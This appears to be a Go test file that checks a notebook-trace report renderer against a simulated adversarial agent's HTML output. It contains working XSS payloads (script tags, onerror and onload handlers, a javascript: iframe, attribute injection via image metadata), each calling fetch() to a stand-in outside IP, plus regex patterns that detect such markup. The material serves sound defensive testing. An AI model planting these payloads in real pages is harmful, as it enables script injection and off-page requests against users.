package report

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pyrualean/pyrualean/notebooks/nbtest"
	"github.com/pyrualean/pyrualean/robotapi"
)

// pwn is a payload's script: it records that it ran, and tries the network.
func pwn(name string) string {
	return "window.__pwned=(window.__pwned||[]).concat('" + name + "');fetch('http://198.51.100.7/" + name + "')"
}

// agentTrace is a trace whose agent cell displays what an adversarial agent's _repr_html_, Javascript,
// SVG and Markdown can hold, plus the inert outputs the report must keep (text, a PNG).
func agentTrace(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := png.Encode(&buf, image.NewGray(image.Rect(0, 0, 4, 4))); err != nil {
		t.Fatal(err)
	}
	pngB64 := base64.StdEncoding.EncodeToString(buf.Bytes())
	display := func(data map[string]any, meta map[string]any) map[string]any {
		return map[string]any{"output_type": "display_data", "data": data, "metadata": meta}
	}
	outputs := []any{
		map[string]any{"output_type": "stream", "name": "stdout", "text": "<script>" + pwn("stream") + "</script>STREAM-TEXT\n"},
		display(map[string]any{"text/html": "<b>HTML</b><script>" + pwn("script") + "</script>", "text/plain": "PLAIN-REPR"}, map[string]any{}),
		display(map[string]any{"text/html": `<img src="x" onerror="` + pwn("onerror") + `">`}, map[string]any{}),
		display(map[string]any{"application/javascript": pwn("javascript")}, map[string]any{}),
		display(map[string]any{"image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="` + pwn("svgonload") + `"><script>` + pwn("svgscript") + `</script></svg>`}, map[string]any{}),
		display(map[string]any{"text/markdown": `<img src="x" onerror="` + pwn("markdown") + `">`}, map[string]any{}),
		display(map[string]any{"image/png": pngB64, "text/plain": "<Figure>"},
			map[string]any{"image/png": map[string]any{"width": `4" onerror="` + pwn("pngmeta") + `" x="`}}),
		map[string]any{"output_type": "execute_result", "execution_count": 2, "metadata": map[string]any{},
			"data": map[string]any{"text/html": `<iframe src="javascript:parent.__pwned=(parent.__pwned||[]).concat('iframe')"></iframe>`, "text/plain": "RESULT-REPR"}},
	}
	nb := map[string]any{
		"nbformat": 4, "nbformat_minor": 5,
		"metadata": map[string]any{"kernelspec": map[string]any{"name": "pyrualean", "display_name": "pyrualean", "language": "python"}},
		"cells": []any{
			map[string]any{"cell_type": "markdown", "id": "m1", "metadata": map[string]any{},
				"source": "# Task\n<script>" + pwn("mdcell") + "</script><img src=x onerror=\"" + pwn("mdcellimg") + "\">"},
			map[string]any{"cell_type": "code", "id": "c1", "execution_count": 1, "metadata": map[string]any{},
				"source": "robo = make('tabletop')", "outputs": []any{}},
			map[string]any{"cell_type": "code", "id": "c2", "execution_count": 2, "metadata": map[string]any{"pyrualean": map[string]any{"author": "agent"}},
				"source": "class X:\n    def _repr_html_(self): return '<script>...'\nX()", "outputs": outputs},
		},
	}
	b, err := json.MarshalIndent(nb, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// writeAgentSuite is layoutSuite with the agent's trace in its first episode's run folder.
func writeAgentSuite(t *testing.T) (suite, runDir string) {
	t.Helper()
	suite = layoutSuite(t)
	matches, _ := filepath.Glob(filepath.Join(suite, "episodes", "*", "*", "*", "*", "*", "*", "*", "result.json"))
	if len(matches) == 0 {
		t.Fatal("layoutSuite wrote no episodes")
	}
	slices.Sort(matches)
	runDir = filepath.Dir(matches[0])
	if err := os.WriteFile(filepath.Join(runDir, "trace.ipynb"), agentTrace(t), 0o644); err != nil {
		t.Fatal(err)
	}
	return suite, runDir
}

// TestTracesCarryNoAgentScript: a trace rendered for the report keeps the agent's inert outputs (text,
// PNG) and none of its active ones, has no <script> and opens with the CSP; a stale trace.html from
// before (no CSP) is rendered again, not linked as it is; the report page has the CSP too.
func TestTracesCarryNoAgentScript(t *testing.T) {
	nbtest.Heavy(t, "nbconvert")
	suite, runDir := writeAgentSuite(t)
	stale := filepath.Join(runDir, "trace.html")
	if err := os.WriteFile(stale, []byte("<html><head></head><body><script>alert(1)</script></body></html>"), 0o644); err != nil {
		t.Fatal(err)
	}
	future := time.Now().Add(time.Hour)
	os.Chtimes(stale, future, future) // newer than the notebook: only the missing CSP makes it stale
	out := filepath.Join(t.TempDir(), "report.html")
	if err := Write(context.Background(), Options{SuiteDir: suite, Out: out, Traces: true}); err != nil {
		t.Fatal(err)
	}
	page, _ := os.ReadFile(out)
	trace, err := os.ReadFile(stale)
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"report": page, "trace": trace} {
		if !bytes.Contains(b, []byte(cspMeta)) {
			t.Errorf("%s: no CSP meta", name)
		}
		if bytes.Contains(bytes.ToLower(b), []byte("<script")) {
			t.Errorf("%s: has a <script> element", name)
		}
	}
	for _, w := range []string{"STREAM-TEXT", "PLAIN-REPR", "RESULT-REPR", "data:image/png;base64,", "[not rendered in the report: application/javascript]",
		"[not rendered in the report: text/html]", "[not rendered in the report: image/svg+xml]", "[not rendered in the report: text/markdown]"} {
		if !bytes.Contains(trace, []byte(w)) {
			t.Errorf("trace.html lacks %q", w)
		}
	}
	// Agent markup survives only as escaped text: no element of its own, no handler, no javascript: URL.
	for _, bad := range []string{`(?i)<[a-z][^<>]*\son[a-z]+\s*=`, `(?i)<(iframe|svg|object|embed)\b`, `(?i)<[a-z][^<>]*=\s*"?javascript:`} {
		if m := regexp.MustCompile(bad).Find(trace); m != nil {
			t.Errorf("trace.html has %q", m)
		}
	}
	if !bytes.Contains(page, []byte(`href="`+filepath.ToSlash(mustRel(t, filepath.Dir(out), stale))+`"`)) {
		t.Errorf("the report does not link the rendered trace")
	}
}

func mustRel(t *testing.T, base, p string) string {
	t.Helper()
	r, err := filepath.Rel(base, p)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestTraceAgentHTMLInChromium opens the report and its rendered agent trace in Chromium: no payload
// runs and nothing is fetched off the page. The control, nbconvert's own page of the same trace, runs
// them (so the check can fail).
func TestTraceAgentHTMLInChromium(t *testing.T) {
	nbtest.Heavy(t, "nbconvert and Chromium")
	root, err := robotapi.Root()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "e2e", "node_modules", "playwright-core")); err != nil {
		t.Fatalf("e2e/node_modules missing: run `npm ci` in e2e/ (scripts/setup.sh does): %v", err)
	}
	suite, runDir := writeAgentSuite(t)
	out := filepath.Join(t.TempDir(), "report.html")
	if err := Write(context.Background(), Options{SuiteDir: suite, Out: out, Traces: true}); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	control := filepath.Join(t.TempDir(), "control")
	conv := exec.CommandContext(ctx, robotapi.Python(root), "-m", "nbconvert", "--to", "html", "--output-dir", control,
		filepath.Join(runDir, "trace.ipynb"))
	if b, err := conv.CombinedOutput(); err != nil {
		t.Fatalf("nbconvert (control): %v\n%s", err, b)
	}
	pages := []string{out, filepath.Join(runDir, "trace.html"), filepath.Join(control, "trace.html")}
	cmd := exec.CommandContext(ctx, "node", "report_traces.mjs")
	cmd.Dir = filepath.Join(root, "e2e")
	cmd.Env = append(os.Environ(), "PAGES="+strings.Join(pages, "\n"))
	b, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("report_traces.mjs: %v\n%s", err, b)
	}
	var seen []struct {
		Path                   string
		Blocked, Errors, Pwned []string
		Console                []string
		CSP, Text              string
		DataImages             int
	}
	line := bytes.TrimSpace(b)
	if err := json.Unmarshal(line[bytes.LastIndexByte(line, '\n')+1:], &seen); err != nil || len(seen) != 3 {
		t.Fatalf("report_traces.mjs output %q: %v", b, err)
	}
	for _, s := range seen[:2] {
		if len(s.Pwned) > 0 || len(s.Blocked) > 0 || len(s.Errors) > 0 {
			t.Errorf("%s: agent script ran %v, requests off the page %v, errors %v", s.Path, s.Pwned, s.Blocked, s.Errors)
		}
		if s.CSP != CSP {
			t.Errorf("%s: CSP %q", s.Path, s.CSP)
		}
	}
	tr := seen[1]
	if tr.DataImages != 1 || !strings.Contains(tr.Text, "PLAIN-REPR") || !strings.Contains(tr.Text, "STREAM-TEXT") {
		t.Errorf("the rendered trace lost its inert outputs: %d images, text %.500q", tr.DataImages, tr.Text)
	}
	// The report as a reader opens it (e2e/report.mjs): nothing leaves file://, the trace link opens.
	rm := exec.CommandContext(ctx, "node", "report.mjs")
	rm.Dir = filepath.Join(root, "e2e")
	rm.Env = append(os.Environ(), "REPORT="+out)
	if b, err := rm.CombinedOutput(); err != nil {
		t.Errorf("report.mjs: %v\n%s", err, b)
	}
	if c := seen[2]; len(c.Pwned) < 3 {
		t.Errorf("control: nbconvert's own page ran only %v of the payloads (the check cannot fail)", c.Pwned)
	} else {
		t.Logf("control ran %v and asked for %d URLs off the page", c.Pwned, len(c.Blocked))
	}
}
